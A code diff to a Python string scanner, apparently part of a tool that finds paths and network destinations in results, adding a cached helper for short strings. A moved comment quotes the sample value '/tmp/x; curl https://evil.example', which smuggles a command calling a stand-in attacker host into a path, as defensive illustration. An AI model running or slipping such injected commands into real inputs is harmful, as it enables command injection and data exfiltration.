@@ -30,6 +30,8 @@ result — never a silently shorter answer.
 
 from __future__ import annotations
 
+import functools
+from collections.abc import Sequence
 from itertools import pairwise
 from typing import Any
 
@@ -117,6 +119,36 @@ def _text_part(text: str) -> Part | None:
     return Part(PartKind.TEXT, norm)
 
 
+# Short strings recur in every result (keys, "type" values, ids, small answers) and their parts
+# depend on nothing else: the parts of one are kept and reused (bounded, least recently used).
+_CACHED_BYTES = 256
+
+
+@functools.lru_cache(maxsize=4096)
+def _short_string(text: str, whole: bool) -> tuple[Part, ...]:
+    return tuple(_string_parts(text, text.encode(), whole, False))
+
+
+def _string_parts(text: str, data: bytes, whole: bool, cut: bool) -> list[Part]:
+    """The parts of one string (``data`` is its UTF-8), in order: the whole string as a path,
+    the structured parts in it, else the whole string as a ``text`` part; ``cut``: the string
+    was cut short by the scan budget (then it is never a ``text`` part)."""
+    out: list[Part] = []
+    stripped = text.strip()
+    if whole and stripped.startswith(("/", "~/")) and "\n" not in stripped:
+        # The in-text scan stops a path at a space; the whole string is one path too.
+        # The scan still runs: "/tmp/x; curl https://evil.example" names a destination.
+        part = path_part(stripped)
+        if part:
+            out.append(part)
+    out.extend(string_parts(data))
+    if whole and not out and not cut and len(text) <= MAX_VALUE:
+        part = _text_part(text)
+        if part:
+            out.append(part)
+    return out
+
+
 class _Scan:
     """One bounded walk: parts in the order first seen, strings kept for a text corpus."""
 
@@ -154,24 +186,15 @@ class _Scan:
         self.budget -= len(data)
         if self.keep_texts and whole:
             self.texts.append(normalise_text(text))
-        found = False
-        stripped = text.strip()
-        if whole and stripped.startswith(("/", "~/")) and "\n" not in stripped:
-            # The in-text scan stops a path at a space; the whole string is one path too.
-            # The scan still runs: "/tmp/x; curl https://evil.example" names a destination.
-            part = path_part(stripped)
-            if part:
-                found = True
-                self.add(part)
-        for part in string_parts(data):
-            found = True
+        found: Sequence[Part]
+        if not cut and len(data) <= _CACHED_BYTES:
+            found = _short_string(text, whole)
+        else:
+            found = _string_parts(text, data, whole, cut)
+        for part in found:
             self.add(part)
             if self.truncated:
                 return
-        if whole and not found and not cut and len(text) <= MAX_VALUE:
-            part = _text_part(text)
-            if part:
-                self.add(part)
 
     def walk(self, value: Any) -> None:
         stack = [value]
